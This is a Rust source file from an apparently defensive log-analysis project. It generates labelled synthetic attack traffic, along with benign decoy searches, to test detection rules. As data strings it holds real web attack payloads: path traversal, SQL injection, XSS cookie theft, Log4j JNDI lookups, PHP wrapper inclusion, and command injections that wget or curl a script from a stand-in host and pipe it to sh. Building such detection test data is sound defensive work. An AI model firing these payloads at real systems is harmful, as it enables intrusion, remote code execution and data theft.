//! Labelled abusive traffic for `attacks: true`: one source per detection behaviour, each on
//! its own address inside the documentation ranges (198.51.100.0/24, 203.0.113.0/24,
//! 2001:db8::/32) that normal clients never use, sent as a short burst that clearly exceeds
//! its rule's threshold.
//!
//! Thresholds assumed (leaky buckets on log time): http-probing >10 distinct non-static
//! 404/403/400 paths, leak 10 s; http-crawl >40 distinct non-static GET/HEAD paths, leak
//! 0.5 s; http-flood >300 requests, leak 200 ms; login-bruteforce >5 login POSTs, leak 10 s;
//! login-bruteforce-slow >20 refused logins, leak 5 min (40 in about 20 minutes);
//! exploit-slow >2 payloads, leak 20 min (six, one every 15 to 45 s).
//! sqli-probing (>10, leak 1 s) and xss-probing (>5, leak 1 s) get bursts of 24 and 15
//! payloads within a few seconds. The other pattern rules (scanner user agent, sensitive
//! files, traversal, web shells, admin pages, proxy attempts, bad HTTP version, CVE paths)
//! are hit 3 to 8 times, enough for their small capacities.
//!
//! [`slow_exploits`] makes the `slow_exploiters` option's sources: many exploiters paced
//! under the fast rules, with decoy visitors whose searches look like SQL but are not.
//!
//! Cross-rule trips: each attacker is built to trip its own rule and no rate rule besides.
//! The path-based probers stay at 8 or fewer distinct error paths so they stay under
//! http-probing's 10; the http-probing and http-crawl sources use innocuous page names; the
//! flooder asks for `/` only, so it stays at one distinct path for http-crawl; the brute
//! forcer's POSTs are answered 200, so they count only as login attempts; the CVE prober
//! avoids paths on the admin-interface list. The payload rules overlap on purpose: the
//! fast traversal, SQL injection and XSS probers also send more than exploit-slow's three
//! payloads, and the traversal prober's `/cgi-bin/.%2e/` is Apache's CVE-2021-41773, which
//! cve-probing knows. Every [`super::Attacker`] entry lists the one rule its burst was built
//! for, and no source appears twice.

use super::rng::Rng;
use super::vocab::{SLUGS, USER_AGENTS};

/// One request of an attacker, already fully decided.
#[derive(Clone, Debug)]
pub struct AttackLine {
    pub time_ms: i64,
    pub addr: String,
    pub method: &'static str,
    pub path: String,
    pub proto: &'static str,
    pub status: u16,
    pub size: u64,
    pub ua: &'static str,
}

/// A behaviour: its rule name, its ground-truth source, and its requests.
pub struct Attack {
    pub rule: &'static str,
    pub source: String,
    pub lines: Vec<AttackLine>,
}

const BROWSER: &str = USER_AGENTS[0];

/// Appends `n` requests starting at `t0`, spaced `gap_ms` apart with up to 50% jitter.
#[allow(clippy::too_many_arguments)]
fn burst(
    rng: &mut Rng,
    lines: &mut Vec<AttackLine>,
    t0: i64,
    gap_ms: u64,
    addr: &str,
    ua: &'static str,
    reqs: &[(&'static str, String, &'static str, u16)],
) {
    let mut t = t0;
    for (method, path, proto, status) in reqs {
        let size = match status {
            200 => rng.range(800, 20_000),
            304 => 0,
            _ => rng.range(150, 600),
        };
        lines.push(AttackLine {
            time_ms: t,
            addr: addr.to_string(),
            method,
            path: path.clone(),
            proto,
            status: *status,
            size,
            ua,
        });
        t += (gap_ms / 2 + rng.below(gap_ms)) as i64;
    }
}

fn gets(paths: &[&str], status: u16) -> Vec<(&'static str, String, &'static str, u16)> {
    paths
        .iter()
        .map(|p| ("GET", (*p).to_string(), "HTTP/1.1", status))
        .collect()
}

/// Builds every attack, each burst starting at a random time in the middle 85% of
/// `[start_ms, start_ms + span_ms)`.
///
/// The attacks are a script, one block per attacker kind in the order the ground truth
/// lists them; kept as one function so the whole scenario reads top to bottom.
pub fn build(rng: &mut Rng, start_ms: i64, span_ms: i64) -> Vec<Attack> {
    let mut attacks = Vec::new();
    let when =
        |rng: &mut Rng| start_ms + span_ms / 20 + rng.below((span_ms * 17 / 20) as u64) as i64;
    let mut add = |rule: &'static str,
                   source: &str,
                   f: &mut dyn FnMut(&mut Rng, i64) -> Vec<AttackLine>,
                   rng: &mut Rng| {
        let t0 = when(rng);
        let lines = f(rng, t0);
        attacks.push(Attack {
            rule,
            source: source.to_string(),
            lines,
        });
    };

    // 404 prober: 30 distinct innocuous missing pages in about 20 s.
    add(
        "http-probing",
        "203.0.113.10",
        &mut |rng, t0| {
            let reqs: Vec<_> = (0..30)
                .map(|i| {
                    (
                        "GET",
                        format!(
                            "/{}/{}-{i}",
                            SLUGS[i % SLUGS.len()],
                            SLUGS[(i * 7 + 3) % SLUGS.len()]
                        ),
                        "HTTP/1.1",
                        404,
                    )
                })
                .collect();
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 700, "203.0.113.10", BROWSER, &reqs);
            v
        },
        rng,
    );

    // The same behaviour from an IPv6 source that uses a new address inside one /64 for
    // every request: only /64 grouping sees one source.
    add(
        "http-probing",
        "2001:db8:1:2::/64",
        &mut |rng, t0| {
            let reqs: Vec<_> = (0..30)
                .map(|i| {
                    (
                        "GET",
                        format!("/archive/{}/page-{i}", SLUGS[(i * 3) % SLUGS.len()]),
                        "HTTP/1.1",
                        404,
                    )
                })
                .collect();
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 700, "", BROWSER, &reqs);
            for l in &mut v {
                let (a, b, c, d) = (
                    rng.range(1, 0xffff),
                    rng.below(0x10000),
                    rng.below(0x10000),
                    rng.range(1, 0xffff),
                );
                l.addr = format!("2001:db8:1:2:{a:x}:{b:x}:{c:x}:{d:x}");
            }
            v
        },
        rng,
    );

    // Crawler: 90 distinct pages in about 15 s, all answered 200.
    add(
        "http-crawl",
        "2001:db8:a:1::c7",
        &mut |rng, t0| {
            let reqs: Vec<_> = (0..90)
                .map(|i| {
                    (
                        "GET",
                        format!("/products/{}-{}", SLUGS[i % SLUGS.len()], 1000 + i * 13),
                        "HTTP/1.1",
                        200,
                    )
                })
                .collect();
            let mut v = Vec::new();
            burst(
                rng,
                &mut v,
                t0,
                170,
                "2001:db8:a:1::c7",
                USER_AGENTS[7],
                &reqs,
            );
            v
        },
        rng,
    );

    // Flooder: 450 requests for `/` in about 10 s (2700 per minute).
    add(
        "http-flood",
        "198.51.100.23",
        &mut |rng, t0| {
            let reqs = vec![("GET", "/".to_string(), "HTTP/1.1", 200); 450];
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 22, "198.51.100.23", USER_AGENTS[3], &reqs);
            v
        },
        rng,
    );

    add(
        "bad-user-agent",
        "203.0.113.45",
        &mut |rng, t0| {
            let reqs = gets(&["/", "/about", "/contact", "/robots.txt", "/pricing"], 200);
            let mut v = Vec::new();
            burst(
                rng,
                &mut v,
                t0,
                2000,
                "203.0.113.45",
                "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:Port Check)",
                &reqs,
            );
            v
        },
        rng,
    );

    add(
        "sensitive-files",
        "203.0.113.77",
        &mut |rng, t0| {
            let reqs = gets(
                &[
                    "/.env",
                    "/.git/config",
                    "/.git/HEAD",
                    "/backup.sql",
                    "/db.sql",
                    "/wp-config.php.bak",
                    "/config.php.bak",
                    "/.aws/credentials",
                ],
                404,
            );
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 1500, "203.0.113.77", BROWSER, &reqs);
            v
        },
        rng,
    );

    add(
        "path-traversal",
        "198.51.100.61",
        &mut |rng, t0| {
            let mut reqs = gets(
                &[
                    "/static/../../../../etc/passwd",
                    "/..%2f..%2f..%2f..%2fetc%2fpasswd",
                    "/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh",
                ],
                400,
            );
            reqs.extend(gets(
                &[
                    "/download?file=../../../../etc/passwd",
                    "/images/..%252f..%252f..%252fwindows/win.ini",
                ],
                404,
            ));
            let mut v = Vec::new();
            burst(
                rng,
                &mut v,
                t0,
                1500,
                "198.51.100.61",
                USER_AGENTS[8],
                &reqs,
            );
            v
        },
        rng,
    );

    add(
        "sqli-probing",
        "198.51.100.88",
        &mut |rng, t0| {
            let mut reqs = gets(
                &[
                    "/products?id=1%27%20OR%20%271%27=%271",
                    "/products?id=1+UNION+SELECT+NULL,NULL,NULL--",
                    "/products?id=1%27+AND+SLEEP(5)--+",
                    "/search?q=1'+or+'1'='1",
                ],
                200,
            );
            reqs.extend(gets(
                &[
                    "/products?id=1;DROP+TABLE+users--",
                    "/category?cat=2%22+or+1=1--",
                ],
                500,
            ));
            // sqli-probing has capacity 10 and leaks one per second: a scanner's burst of
            // 24 injections within three seconds overflows it.
            let reqs: Vec<_> = reqs.iter().cycle().take(24).cloned().collect();
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 120, "198.51.100.88", USER_AGENTS[4], &reqs);
            v
        },
        rng,
    );

    add(
        "xss-probing",
        "203.0.113.99",
        &mut |rng, t0| {
            let reqs = gets(
                &[
                    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
                    "/search?q=<script>alert(document.cookie)</script>",
                    "/search?q=%22%3E%3Csvg/onload=alert(1)%3E",
                    "/contact?name=<img+src=x+onerror=alert(1)>",
                    "/search?q=javascript:alert(1)",
                ],
                200,
            );
            // xss-probing has capacity 5 and leaks one per second: 15 payloads within
            // two seconds overflow it.
            let reqs: Vec<_> = reqs.iter().cycle().take(15).cloned().collect();
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 120, "203.0.113.99", USER_AGENTS[5], &reqs);
            v
        },
        rng,
    );

    add(
        "backdoor-probing",
        "198.51.100.140",
        &mut |rng, t0| {
            let reqs = gets(
                &[
                    "/shell.php",
                    "/wso.php",
                    "/c99.php",
                    "/r57.php",
                    "/alfa.php",
                    "/cmd.php",
                    "/wp-content/uploads/shell.php",
                    "/b374k.php",
                ],
                404,
            );
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 1500, "198.51.100.140", BROWSER, &reqs);
            v
        },
        rng,
    );

    add(
        "admin-probing",
        "203.0.113.150",
        &mut |rng, t0| {
            let reqs = gets(
                &[
                    "/phpmyadmin/",
                    "/phpMyAdmin/index.php",
                    "/pma/",
                    "/myadmin/",
                    "/wp-admin/",
                    "/wp-admin/setup-config.php",
                    "/mysql/admin/",
                    "/dbadmin/",
                ],
                404,
            );
            let mut v = Vec::new();
            burst(
                rng,
                &mut v,
                t0,
                1500,
                "203.0.113.150",
                USER_AGENTS[1],
                &reqs,
            );
            v
        },
        rng,
    );

    // 20 wp-login.php POSTs and 5 xmlrpc.php POSTs in about a minute.
    add(
        "login-bruteforce",
        "198.51.100.201",
        &mut |rng, t0| {
            let mut reqs = vec![("POST", "/wp-login.php".to_string(), "HTTP/1.1", 200); 20];
            reqs.extend(vec![
                ("POST", "/xmlrpc.php".to_string(), "HTTP/1.1", 200);
                5
            ]);
            let mut v = Vec::new();
            burst(
                rng,
                &mut v,
                t0,
                2400,
                "198.51.100.201",
                USER_AGENTS[0],
                &reqs,
            );
            v
        },
        rng,
    );

    add(
        "open-proxy",
        "203.0.113.200",
        &mut |rng, t0| {
            let reqs = vec![
                ("CONNECT", "www.google.com:443".to_string(), "HTTP/1.1", 405),
                ("GET", "http://httpbin.org/ip".to_string(), "HTTP/1.1", 400),
                ("CONNECT", "93.184.215.14:80".to_string(), "HTTP/1.1", 405),
            ];
            let mut v = Vec::new();
            burst(
                rng,
                &mut v,
                t0,
                3000,
                "203.0.113.200",
                USER_AGENTS[10],
                &reqs,
            );
            v
        },
        rng,
    );

    add(
        "bad-http-version",
        "198.51.100.222",
        &mut |rng, t0| {
            let reqs = vec![
                ("GET", "/", "HTTP/9.9", 505),
                ("GET", "/", "HTTP/1.7", 400),
                ("GET", "/index.html", "HTTP/2.5", 400),
            ]
            .into_iter()
            .map(|(m, p, v, s)| (m, p.to_string(), v, s))
            .collect::<Vec<_>>();
            let mut v = Vec::new();
            burst(
                rng,
                &mut v,
                t0,
                3000,
                "198.51.100.222",
                USER_AGENTS[12],
                &reqs,
            );
            v
        },
        rng,
    );

    // Credential stuffing under the fast rule's leak: 40 API logins refused with 401, one
    // every 15 to 45 s (about 20 minutes). Last, so the attackers before it are unchanged.
    add(
        "login-bruteforce-slow",
        "198.51.100.210",
        &mut |rng, t0| {
            let reqs = vec![("POST", "/api/v1/session".to_string(), "HTTP/1.1", 401); 40];
            let mut v = Vec::new();
            burst(
                rng,
                &mut v,
                t0,
                30_000,
                "198.51.100.210",
                USER_AGENTS[3],
                &reqs,
            );
            v
        },
        rng,
    );

    // Exploitation paced under the fast pattern rules: six payloads of different kinds (no
    // Log4j lookup, which cve-probing flags at once), one every 15 to 45 s, answered as a
    // vulnerable site would. Appended after the older attackers, so their bytes stay the
    // same.
    add(
        "exploit-slow",
        "198.51.100.230",
        &mut |rng, t0| {
            let reqs = vec![
                (
                    "GET",
                    "/index.php?page=....//....//....//etc/passwd".to_string(),
                    "HTTP/1.1",
                    200,
                ),
                (
                    "GET",
                    "/products?id=1%27%20OR%20%271%27%3D%271".to_string(),
                    "HTTP/1.1",
                    200,
                ),
                (
                    "GET",
                    "/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E".to_string(),
                    "HTTP/1.1",
                    200,
                ),
                (
                    "GET",
                    "/cgi-bin/status?cmd=;wget+http://203.0.113.9/x.sh;chmod+777+x.sh".to_string(),
                    "HTTP/1.1",
                    404,
                ),
                (
                    "GET",
                    "/download?file=php://filter/convert.base64-encode/resource=index.php"
                        .to_string(),
                    "HTTP/1.1",
                    200,
                ),
                (
                    "GET",
                    "/products?id=1+UNION+ALL+SELECT+NULL,NULL,NULL--".to_string(),
                    "HTTP/1.1",
                    500,
                ),
            ];
            let mut v = Vec::new();
            burst(
                rng,
                &mut v,
                t0,
                30_000,
                "198.51.100.230",
                USER_AGENTS[6],
                &reqs,
            );
            v
        },
        rng,
    );

    // One request each for four known exploit paths, all missing here.
    add(
        "cve-probing",
        "203.0.113.230",
        &mut |rng, t0| {
            let reqs = vec![
                (
                    "POST",
                    "/_ignition/execute-solution".to_string(),
                    "HTTP/1.1",
                    404,
                ),
                (
                    "POST",
                    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php".to_string(),
                    "HTTP/1.1",
                    404,
                ),
                (
                    "POST",
                    "/wls-wsat/CoordinatorPortType".to_string(),
                    "HTTP/1.1",
                    404,
                ),
                ("GET", "/owa/auth/x.js".to_string(), "HTTP/1.1", 404),
            ];
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 3000, "203.0.113.230", "curl/8.5.0", &reqs);
            v
        },
        rng,
    );

    // WordPress author enumeration: ids 1 to 8 in about six seconds, the first three
    // redirected to their author pages.
    add(
        "wordpress-user-enum",
        "203.0.113.240",
        &mut |rng, t0| {
            let reqs: Vec<_> = (1..=8)
                .map(|id| {
                    (
                        "GET",
                        format!("/?author={id}"),
                        "HTTP/1.1",
                        if id <= 3 { 301 } else { 404 },
                    )
                })
                .collect();
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 800, "203.0.113.240", USER_AGENTS[9], &reqs);
            v
        },
        rng,
    );

    // A cache-busting DoS tool: 80 requests for `/?<a fresh 9 to 12 digit number>` in about
    // four seconds, far under http-flood's 300 but every one a new query.
    add(
        "cache-bypass-flood",
        "198.51.100.240",
        &mut |rng, t0| {
            let reqs: Vec<_> = (0..80)
                .map(|_| {
                    let n = rng.range(100_000_000, 999_999_999_999);
                    ("GET", format!("/?{n}"), "HTTP/1.1", 200)
                })
                .collect();
            let mut v = Vec::new();
            burst(rng, &mut v, t0, 50, "198.51.100.240", USER_AGENTS[2], &reqs);
            v
        },
        rng,
    );

    attacks
}

/// The most slow exploiters [`slow_exploits`] makes: one address each in 198.51.100.100 to
/// 198.51.100.129.
pub const MAX_SLOW_EXPLOITERS: u32 = 30;

/// A Log4j lookup sent as the user agent.
const JNDI_USER_AGENT: &str = "${jndi:ldap://198.51.100.9:1389/Basic/Command/Base64/aWQ=}";

/// Payloads of one kind, each a target that `exploit-slow` matches, and the user agent they
/// come with when it carries the payload.
struct Family {
    targets: &'static [&'static str],
    ua: Option<&'static str>,
}

const FAMILIES: [Family; 7] = [
    Family {
        targets: &[
            "/download?file=../../../../etc/passwd",
            "/..%2f..%2f..%2f..%2fetc%2fpasswd",
            "/static/..%252f..%252f..%252fetc%252fpasswd",
            "/index.php?page=....//....//....//etc/passwd",
            "/view?doc=..%5c..%5c..%5cwindows%5cwin.ini",
        ],
        ua: None,
    },
    Family {
        targets: &[
            "/${jndi:ldap://198.51.100.9:1389/a}",
            "/?x=${jndi:rmi://198.51.100.9:1099/Exploit}",
            "/?q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%3A1389%2Fb%7D",
            "/?id=${${lower:j}ndi:${lower:l}dap://198.51.100.9/c}",
            "/login?user=${${::-j}${::-n}${::-d}${::-i}:dns://198.51.100.9/d}",
        ],
        ua: None,
    },
    Family {
        targets: &["/", "/index.html", "/api/v1/status"],
        ua: Some(JNDI_USER_AGENT),
    },
    Family {
        targets: &[
            "/products?id=1'+OR+'1'='1",
            "/products?id=1+UNION+SELECT+username,password+FROM+users--",
            "/item?id=-1+union+all+select+1,2,3,4--",
            "/search?q=x%27%20or%20%271%27%3D%271",
            "/news?id=1'+AND+SLEEP(5)--+-",
        ],
        ua: None,
    },
    Family {
        targets: &[
            "/search?q=<script>alert(1)</script>",
            "/search?q=%3Cscript%3Edocument.location%3D%27http://198.51.100.9/%27%3C/script%3E",
            "/comment?text=%22%3E%3Csvg/onload=alert(1)%3E",
            "/?q=<img+src=x+onerror=alert(document.domain)>",
        ],
        ua: None,
    },
    Family {
        targets: &[
            "/index.php?page=php://filter/convert.base64-encode/resource=config",
            "/?file=php://input",
            "/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input",
            "/?page=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8%2b",
        ],
        ua: None,
    },
    Family {
        targets: &[
            "/cgi-bin/ping.cgi?ip=127.0.0.1;wget+http://198.51.100.9/x.sh;chmod+777+x.sh",
            "/api/ping?host=8.8.8.8|curl+http://198.51.100.9/s|sh",
            "/?cmd=$(wget+http://198.51.100.9/b)",
            "/setup.php?ip=1%3Bcurl%20http%3A%2F%2F198.51.100.9%2Fm%20%7C%20sh",
        ],
        ua: None,
    },
];

/// Searches a real search box gets: apostrophes, SQL words, symbols. None is a payload.
const DECOY_SEARCHES: [&str; 16] = [
    "/search?q=o%27brien",
    "/search?q=men%27s+trail+shoes",
    "/search?q=kids%27+rain+jacket",
    "/search?q=rock+%27n%27+roll+t-shirt",
    "/search?q=select+wool+socks",
    "/search?q=union+jack+flag",
    "/search?q=union+station+store",
    "/search?q=select+all",
    "/search?q=drop+shipping",
    "/search?q=sleep+mask",
    "/search?q=script+font",
    "/search?q=don%27t+select+this",
    "/search?q=tent+%26+tarp",
    "/search?q=50%25+off",
    "/search?q=what%27s+new",
    "/api/v1/products?filter=name+eq+%27tent%27&order=price+desc",
];

/// `n` slow exploiters and as many decoys, spread over the middle of
/// `[start_ms, start_ms + span_ms)`. An exploiter sends payloads of one to three kinds
/// (traversal, Log4j lookups in the target or the user agent, SQL injection, XSS, PHP
/// wrappers, shell commands), one every 0.5 to 40 s for 2 to 6 minutes, answered 200, 400,
/// 403, 404 or 500. A decoy is a normal visitor (192.0.2.0/24, never an attacker) who
/// searches with apostrophes and SQL words every 10 to 60 s for 5 to 15 minutes: no
/// payload-shaped rule may count it. Returns the labelled exploiters and the decoys' lines.
pub fn slow_exploits(
    rng: &mut Rng,
    start_ms: i64,
    span_ms: i64,
    n: u32,
) -> (Vec<Attack>, Vec<AttackLine>) {
    let when =
        |rng: &mut Rng| start_ms + span_ms / 20 + rng.below((span_ms * 17 / 20) as u64) as i64;
    let mut attacks = Vec::new();
    let mut decoys = Vec::new();
    for i in 0..n.min(MAX_SLOW_EXPLOITERS) {
        let addr = format!("198.51.100.{}", 100 + i);
        let kinds = rng.range(1, 3) as usize;
        let first = rng.below(FAMILIES.len() as u64) as usize;
        let families: Vec<&Family> = (0..kinds)
            .map(|k| &FAMILIES[(first + k * 2) % FAMILIES.len()])
            .collect();
        let end = rng.range(120_000, 360_000) as i64;
        let mut t = when(rng);
        let stop = t + end;
        let mut lines = Vec::new();
        while t < stop {
            let family = families[rng.below(families.len() as u64) as usize];
            let status = *rng.pick(&[200u16, 200, 404, 400, 403, 500]);
            lines.push(AttackLine {
                time_ms: t,
                addr: addr.clone(),
                method: "GET",
                path: rng.pick(family.targets).to_string(),
                proto: "HTTP/1.1",
                status,
                size: if status == 200 {
                    rng.range(800, 20_000)
                } else {
                    rng.range(150, 600)
                },
                ua: family.ua.unwrap_or(*rng.pick(&[
                    "python-requests/2.31.0",
                    "Go-http-client/1.1",
                    BROWSER,
                ])),
            });
            t += rng.range(500, 40_000) as i64;
        }
        attacks.push(Attack {
            rule: "exploit-slow",
            source: addr,
            lines,
        });
    }
    for i in 0..n.min(MAX_SLOW_EXPLOITERS) {
        let addr = format!("192.0.2.{}", 10 + i);
        let mut t = when(rng);
        let stop = t + rng.range(300_000, 900_000) as i64;
        let ua = *rng.pick(USER_AGENTS);
        while t < stop {
            decoys.push(AttackLine {
                time_ms: t,
                addr: addr.clone(),
                method: "GET",
                path: rng.pick(&DECOY_SEARCHES).to_string(),
                proto: "HTTP/2.0",
                status: 200,
                size: rng.range(2_500, 40_000),
                ua,
            });
            t += rng.range(10_000, 60_000) as i64;
        }
    }
    (attacks, decoys)
}
